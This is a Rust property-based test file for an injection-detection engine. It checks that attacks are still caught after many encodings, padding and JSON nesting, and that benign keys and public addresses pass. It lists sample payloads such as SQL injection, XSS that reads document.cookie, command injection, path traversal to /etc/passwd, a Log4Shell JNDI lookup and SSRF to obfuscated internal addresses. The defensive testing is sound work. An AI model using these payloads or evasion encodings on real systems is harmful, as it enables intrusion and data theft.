//! Laws that hold for any text: no panic, encodings and padding hide nothing.
#![expect(clippy::unwrap_used, reason = "a test fails by panicking")]

use std::fmt::Write as _;
use std::sync::LazyLock;

use payload::{Classes, Context, Engine, Scratch};
use proptest::prelude::*;

static ENGINE: LazyLock<Engine> = LazyLock::new(Engine::new);

const ANY: Context = Context::Any(Classes::ALL);

/// Attacks of several classes, each long enough to be told after any encoding.
const ATTACKS: [&str; 14] = [
    "1 OR 1=1--",
    "' union select null,version()--",
    "<script>alert(document.cookie)</script>",
    "\"><img src=x onerror=alert(1)>",
    "x' or name()='username' or 'x'='y",
    "admin*)((|userPassword=*)",
    "', $where: '1 == 1'",
    "1;waitfor delay '0:0:5'--",
    "../../../../etc/passwd",
    "; cat /etc/hostname",
    "http://0xa9fea9fe/a",
    "${jndi:ldap://files.example/a}",
    "{{config.items()}}",
    "<?php system('id'); ?>",
];

fn refused(value: &str) -> bool {
    ENGINE.classify(&mut Scratch::default(), value, ANY).hit.is_some()
}

fn percent(text: &str) -> String {
    text.bytes().fold(String::new(), |mut out, byte| {
        write!(out, "%{byte:02x}").unwrap();
        out
    })
}

fn base64(bytes: &[u8]) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let bits = chunk.iter().fold(0u32, |bits, byte| bits << 8 | u32::from(*byte));
        let bits = bits << (8 * (3 - chunk.len()));
        for at in 0..4 {
            let six = usize::try_from(bits >> (18 - 6 * at) & 63).unwrap();
            out.push(if at <= chunk.len() { char::from(*ALPHABET.get(six).unwrap()) } else { '=' });
        }
    }
    out
}

fn each(text: &str, write: impl Fn(&mut String, char) -> std::fmt::Result) -> String {
    text.chars().fold(String::new(), |mut out, character| {
        write(&mut out, character).unwrap();
        out
    })
}

/// One way of writing each character, by its number.
fn encode(text: &str, way: usize) -> String {
    match way {
        0 => percent(text),
        1 => percent(&percent(text)),
        2 => percent(&percent(&percent(text))),
        3 => base64(text.as_bytes()),
        4 => each(text, |out, c| write!(out, "&#{};", u32::from(c))),
        5 => each(text, |out, c| write!(out, "&#x{:x};", u32::from(c))),
        6 => each(text, |out, c| write!(out, "\\u{:04x}", u32::from(c))),
        7 => text.bytes().fold(String::new(), |mut out, byte| {
            write!(out, "\\{byte:03o}").unwrap();
            out
        }),
        8 => each(text, |out, c| write!(out, "{c}\0")),
        9 => {
            let units: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
            base64(&units)
        }
        10 => text
            .chars()
            .map(|c| {
                if c.is_ascii_graphic() {
                    char::from_u32(u32::from(c) + 0xfee0).unwrap()
                } else {
                    c
                }
            })
            .collect(),
        11 => each(text, |out, c| write!(out, "%u{:04x}", u32::from(c))),
        12 => format!("{{\"a\":[1,\"{}\"]}}", text.replace('\\', "\\\\").replace('"', "\\\"")),
        13 => text.replace(' ', "/**/"),
        _ => text.to_owned(),
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 96, ..ProptestConfig::default() })]

    #[test]
    fn no_text_panics_and_scores_stay_in_range(text in "\\PC{0,200}", noise in prop::collection::vec(any::<u8>(), 0..200)) {
        let noise = String::from_utf8_lossy(&noise).into_owned();
        let mut scratch = Scratch::default();
        for value in [&text, &noise] {
            for context in [ANY, Context::Sink(Classes::ALL)] {
                let verdict = ENGINE.classify(&mut scratch, value, context);
                prop_assert!((0.0..=1.0).contains(&verdict.score));
                let key = ENGINE.classify_key(&mut scratch, value, context);
                prop_assert!((0.0..=1.0).contains(&key.score));
            }
        }
    }

    #[test]
    fn text_of_signs_does_not_panic(text in r#"['"<>(){}\[\]%&#;\\$|=/*\-+ a0xu,.:!@]{0,120}"#) {
        let verdict = ENGINE.classify(&mut Scratch::default(), &text, Context::Sink(Classes::ALL));
        prop_assert!((0.0..=1.0).contains(&verdict.score));
    }

    #[test]
    fn an_encoding_hides_nothing(attack in 0..ATTACKS.len(), way in 0usize..14) {
        let value = encode(ATTACKS[attack], way);
        prop_assert!(refused(&value), "{value}");
    }

    #[test]
    fn two_encodings_hide_nothing(attack in 0..ATTACKS.len(), inner in 0usize..13, outer in 0usize..13) {
        // UTF-16 in base64 is told from bytes by its NULs, which only ASCII has.
        prop_assume!((inner, outer) != (10, 9));
        let value = encode(&encode(ATTACKS[attack], inner), outer);
        prop_assert!(refused(&value), "{value}");
    }

    #[test]
    fn padding_hides_nothing(attack in 0..ATTACKS.len(), before in "[a-z]{0,40}", length in 0usize..40_000, after in "[a-z ]{0,40}") {
        let attack = ATTACKS[attack];
        let value = format!("{before}{}{attack} {after}", " ".repeat(length));
        prop_assert!(refused(&value), "{before} {length} {attack} {after}");
    }

    #[test]
    fn an_attack_in_json_is_found_at_any_depth(attack in 0..ATTACKS.len(), depth in 0usize..3) {
        let mut value = ATTACKS[attack].to_owned();
        for _ in 0..depth {
            value = encode(&value, 12);
        }
        prop_assert!(refused(&value), "{value}");
    }
}

/// The ways in which parsers let an address be written.
fn written(address: u32, way: usize) -> String {
    let [a, b, c, d] = address.to_be_bytes();
    match way {
        0 => format!("{a}.{b}.{c}.{d}"),
        1 => format!("{address}"),
        2 => format!("0x{address:08x}"),
        3 => format!("0{a:o}.0{b:o}.0{c:o}.0{d:o}"),
        4 => format!("0x{a:x}.0x{b:x}.0x{c:x}.0x{d:x}"),
        5 => format!("{a}.{}", address & 0x00ff_ffff),
        6 => format!("{a}.{b}.{}", address & 0xffff),
        7 => format!("[::ffff:{a}.{b}.{c}.{d}]"),
        8 => format!("[::ffff:{:x}:{:x}]", address >> 16, address & 0xffff),
        9 => format!("[64:ff9b::{:x}:{:x}]", address >> 16, address & 0xffff),
        _ => format!("user:pass@{a}.{b}.{c}.{d}."),
    }
}

proptest! {
    #[test]
    fn every_way_of_writing_an_address_leads_to_the_same_machine(
        inside in prop_oneof![
            0xa9fe_0000u32..0xaa00_0000, // 169.254.0.0/16 and above: only the first is link-local
            0x7f00_0000u32..0x8000_0000,
            0x0a00_0000u32..0x0b00_0000,
            0xc0a8_0000u32..0xc0a9_0000,
        ],
        way in 0usize..11,
        port in proptest::option::of(1u16..),
    ) {
        let inside = if inside >> 16 == 0xa9ff { inside & 0xa9fe_ffff } else { inside };
        let port = port.map_or(String::new(), |port| format!(":{port}"));
        let address = format!("http://{}{port}/status", written(inside, way));
        prop_assert!(refused(&address), "{}", address);
    }

    #[test]
    fn plain_addresses_of_the_internet_pass(outside in 0x0b00_0000u32..0x6000_0000, path in "[a-z]{1,9}") {
        let address = format!("https://{}/{path}", written(outside, 0));
        prop_assert!(!refused(&address), "{}", address);
        let address = format!("https://{path}.example.com/{path}?{path}=1");
        prop_assert!(!refused(&address), "{}", address);
    }

    #[test]
    fn steps_out_of_a_folder_are_refused_at_its_sink(
        folders in proptest::collection::vec("[a-z0-9]{1,8}", 0..3),
        steps in proptest::collection::vec(
            prop_oneof!["\\.\\./", "\\.\\.\\\\", "%2e%2e%2f", "%2e%2e/", "\\.\\.%2f", "%252e%252e%252f", "%c0%ae%c0%ae/"],
            1..6,
        ),
        name in "[a-z]{1,8}",
    ) {
        let key = folders.iter().map(|folder| format!("{folder}/")).chain(steps).collect::<String>();
        let sink = Context::Sink(Classes::NONE.with(payload::Class::Path));
        let hit = ENGINE.classify(&mut Scratch::default(), &format!("{key}{name}"), sink).hit;
        prop_assert!(hit.is_some(), "{}", key);
    }

    #[test]
    fn keys_of_objects_in_a_bucket_pass_at_the_sink_of_paths(
        key in "[a-z0-9][a-zA-Z0-9!_.*'() /-]{0,60}[a-z0-9]",
    ) {
        prop_assume!(!key.split('/').any(|part| part.len() > 1 && part.bytes().all(|byte| byte == b'.')));
        let sink = Context::Sink(Classes::NONE.with(payload::Class::Path));
        let hit = ENGINE.classify(&mut Scratch::default(), &key, sink).hit;
        prop_assert!(hit.is_none(), "{}", key);
    }
}
